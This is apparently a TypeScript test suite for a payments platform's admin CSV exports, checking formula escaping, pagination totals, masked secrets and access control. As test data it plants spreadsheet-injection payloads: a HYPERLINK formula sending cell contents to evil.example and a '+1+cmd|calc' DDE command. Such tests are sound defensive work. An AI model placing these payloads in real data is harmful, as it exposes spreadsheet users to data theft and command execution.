import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { after, describe, it } from 'node:test';
import { sql } from '#platform/database.ts';
import { offerMethod } from './offered-methods.ts';
import { testSite } from './site.ts';

/** Operators' lists as CSV files. Members choose the names in them, so formulas must not reach a spreadsheet. */
const site = await testSite({ after });
const as = await site.member({ role: 'admin' });
const evil = '=HYPERLINK("https://evil.example?"&A1,"open")';
const secret = 'a secret of a test';
const provider = { secret, name: '+1+cmd|calc', apiKey: '1', isEnabled: true };
await site.call('PUT', '/api/admin/providers/cpx', { as, body: provider });
await offerMethod(site.platform, 'litecoin');
await site.call('PUT', '/api/admin/payment-methods/paypal', { as, body: { isEnabled: true } });

const evilMember = async (options: Parameters<typeof site.member>[0]) => {
  const member = await site.member(options);
  await site.owner.rows(sql`update members.members set first_name = ${evil} where id = ${member.id}`);
  return member;
};

/** The cells of a CSV text (RFC 4180), by row. */
function cellsOf(text: string): string[][] {
  assert.ok(text.endsWith('\r\n'));
  const rows: string[][] = [[]];
  for (const [, quoted, bare = '', end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? bare);
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}

/** The bytes that a text in UTF-8 begins with, by which Excel knows it. Reading a text takes them off. */
const byteOrderMark = [0xef, 0xbb, 0xbf];

async function exported(path: string) {
  const { status, headers, body } = await site.call('GET', path, { as });
  assert.equal(status, 200);
  const file = await fetch(site.address + path, { headers: { cookie: as.cookie } });
  assert.deepEqual(
    [...(await file.bytes()).subarray(0, 6)],
    [...byteOrderMark, ...Buffer.from(body.slice(0, 3))],
  );
  assert.equal(headers.get('content-type'), 'text/csv; charset=utf-8');
  assert.match(headers.get('content-disposition') ?? '', /^attachment; filename="[a-z-]+\.csv"$/);
  const [header = [], ...rows] = cellsOf(body);
  assert.ok(rows.every((row) => row.length === header.length));
  return { header, rows, column: (name: string) => rows.map((row) => row[header.indexOf(name)]) };
}

function assertNoFormula(rows: string[][]): void {
  for (const cell of rows.flat()) assert.ok(/^-?\d+(\.\d+)?$/.test(cell) || !/^\s*[=+\-@]/.test(cell), cell);
}

describe('the operators’ withdrawals as CSV', () => {
  it('have a header, the rows of all pages, and no formulas', async () => {
    for (let members = 0; members < 21; members += 1) {
      const member = await evilMember({ balancePoints: 5_000n, isPhoneVerified: true });
      for (let requests = 0; requests < 5; requests += 1) {
        const body = {
          amountPoints: '1000',
          method: 'litecoin',
          recipientInfo: { address: 'ltc1qw508d6qejxtdg4y5r3zarvary0c5xw7kgmn4n9' },
        };
        assert.equal((await site.call('POST', '/api/withdrawal', { as: member, body })).status, 201);
      }
    }
    // Requests by a method that wrote addresses like formulas.
    await site.owner.rows(sql`
      update withdrawals.withdrawals
      set method = 'paypal', destination = '+cmd' || member_number - 1 || '@example.com' where state = 'pending'`);
    const ids = (
      await site.owner.rows<{ id: string }>(sql`
      select id::text as id from withdrawals.withdrawals where state = 'pending'`)
    ).map(({ id }) => id);
    assert.ok(ids.length >= 105);
    const { header, rows, column } = await exported('/api/admin/withdrawals-data?status=pending&format=csv');
    assert.deepEqual(header.slice(0, 7), [
      'id',
      'userId',
      'userName',
      'userEmail',
      'method',
      'status',
      'amount',
    ]);
    assert.deepEqual(column('id').sort(), ids.sort());
    assertNoFormula(rows);
    assert.ok(column('userName').includes(`'${evil}`));
    assert.ok(column('address').includes("'+cmd0@example.com"));
  });
  it('have the specified columns, without the parts of the name that the JSON has', async () => {
    const address = '/api/admin/withdrawals-data?status=pending';
    const { header, column } = await exported(`${address}&format=csv`);
    const columns =
      'id,userId,userName,userEmail,method,status,amount,address,coinAmount,rate,payoutState,txId,' +
      'rejectionReason,createdAt,processedAt,flags';
    assert.equal(header.join(), columns);
    assert.ok(column('flags').every((flags) => flags?.includes('"first-payout"')));
    const { withdrawals } = (await site.call('GET', address, { as })).body;
    assert.ok(withdrawals.length > 0);
    assert.ok('userFirstName' in withdrawals[0] && 'userLastName' in withdrawals[0]);
  });
  it('contain one page if one was requested', async () => {
    const { rows } = await exported('/api/admin/withdrawals-data?status=pending&format=csv&page=2&limit=10');
    assert.equal(rows.length, 10);
  });
  it('have a header without any row', async () => {
    const { header, rows } = await exported('/api/admin/withdrawals-data?q=nobody-at-all&format=csv');
    assert.deepEqual([header[0], header.includes('rejectionReason'), rows], ['id', true, []]);
  });
});

describe('the held earnings as CSV', () => {
  it('have a header, every row, and no formulas', async () => {
    const member = await evilMember({});
    for (let transaction = 0; transaction < 3; transaction += 1) {
      const hash = createHash('md5').update(`9000${transaction}-${secret}`).digest('hex');
      const query = `status=1&trans_id=9000${transaction}&user_id=${member.id}&amount_local=10000&secure_hash=${hash}`;
      assert.equal((await site.call('GET', `/api/webhooks/postback/cpx?${query}`)).body, '1');
    }
    const { header, rows, column } = await exported(`/api/admin/pending-earnings?q=${member.id}&format=csv`);
    assert.deepEqual(header, [
      'id',
      'createdAt',
      'userId',
      'userFirstName',
      'userEmail',
      'amount',
      'source',
      'description',
    ]);
    assert.deepEqual(column('amount'), ['10000', '10000', '10000']);
    assert.deepEqual(column('userFirstName'), Array(3).fill(`'${evil}`));
    assert.deepEqual(column('source'), Array(3).fill("'+1+cmd|calc"));
    assertNoFormula(rows);
  });
});

describe('the providers as CSV', () => {
  it('have a header, every row, masked secrets, and no formulas', async () => {
    const { header, rows, column } = await exported('/api/admin/providers?format=csv');
    assert.deepEqual(header.slice(0, 3), ['id', 'name', 'type']);
    const { n } = await site.owner.one<{ n: bigint }>(sql`select count(*) as n from earning.providers`);
    assert.equal(BigInt(rows.length), n);
    assert.ok(column('name').includes("'+1+cmd|calc"));
    assert.deepEqual([...new Set(column('secret'))].sort(), ['', '***encrypted***']);
    assertNoFormula(rows);
  });
});

describe('CSV of operators', () => {
  for (const path of [
    'support-tickets',
    'support/tickets',
    'pending-earnings',
    'providers',
    'payment-methods',
  ])
    it(`has the total of the list, with and without a page: ${path}`, async () => {
      const totalOf = async (query: string) =>
        (await site.call('GET', `/api/admin/${path}?${query}`, { as })).headers.get('x-total-count');
      const total = await totalOf('limit=1');
      assert.match(total ?? '', /^\d+$/);
      assert.equal(await totalOf('format=csv'), total);
      assert.equal(await totalOf('format=csv&limit=1'), total);
    });
  for (const path of ['withdrawals-data', 'pending-earnings', 'providers'])
    it(`is refused to members: ${path}`, async () => {
      const url = `/api/admin/${path}?format=csv`;
      const [visitor, member] = [
        await site.call('GET', url),
        await site.call('GET', url, { as: await site.member() }),
      ];
      assert.deepEqual([visitor.status, visitor.problem.code], [401, 'unauthenticated']);
      assert.deepEqual([member.status, member.problem.code], [403, 'forbidden']);
    });
});

describe('a member’s own history as CSV', () => {
  it('contains all of the member’s movements and no others', async () => {
    const [member] = [await site.member({ balancePoints: 500n }), await site.member({ balancePoints: 7n })];
    const { status, headers, body } = await site.call('GET', '/api/user/history?format=csv', { as: member });
    assert.equal(status, 200);
    assert.match(headers.get('content-type') ?? '', /^text\/csv/);
    const [header = [], ...rows] = cellsOf(body);
    const columns = ['id', 'amount', 'description', 'createdAt', 'kind', 'provider', 'txId'];
    assert.deepEqual(header, columns);
    assert.deepEqual(
      rows.map((row) => row[header.indexOf('amount')]),
      ['500'],
    );
  });
});
